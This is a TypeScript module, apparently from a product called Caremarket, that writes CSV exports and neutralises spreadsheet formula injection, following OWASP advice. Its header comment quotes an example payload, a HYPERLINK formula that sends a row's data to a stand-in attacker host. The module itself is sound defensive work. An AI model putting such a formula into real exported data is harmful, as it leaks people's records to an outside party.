// Every CSV that Caremarket hands to a person is written here, so that none can carry a formula.
// A spreadsheet opening a CSV runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a
// tab or carriage return before one) as a formula, and the text in these files comes from people:
// a name like `=HYPERLINK("http://evil.example/?"&A1,"Open record")` would send the row to anyone.
// As OWASP advises, such a text cell is written with a single quote before it, which makes the
// spreadsheet show it as text, and in double quotes. Numbers are written as they are, so -5 stays a
// number a spreadsheet can add up: only text is neutralised, and a figure must be passed as a number,
// never as its digits in a string ("-5" as text is written '-5).
import { stringify } from 'csv-stringify/sync'

/** One cell: text, a number, or nothing (an empty cell). */
export type CsvCell = string | number | null | undefined

/**
 * The first characters that make a spreadsheet read a cell as a formula (OWASP's list), and the
 * full-width forms that some spreadsheets fold into them.
 */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/

/** Text as a spreadsheet will show it, never run it: a formula-like cell gets a leading `'`. */
function neutraliseCell(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text
}

/** Rows (the first usually the header) as CSV text, with every formula-like text cell neutralised. */
export function csvText(rows: readonly (readonly CsvCell[])[]): string {
  return stringify(rows as CsvCell[][], {
    cast: {
      // A neutralised cell is always quoted, so the quote and the text stay one cell whatever follows.
      string: (text) => (FORMULA_START.test(text) ? { value: neutraliseCell(text), quoted: true } : text),
    },
  })
}
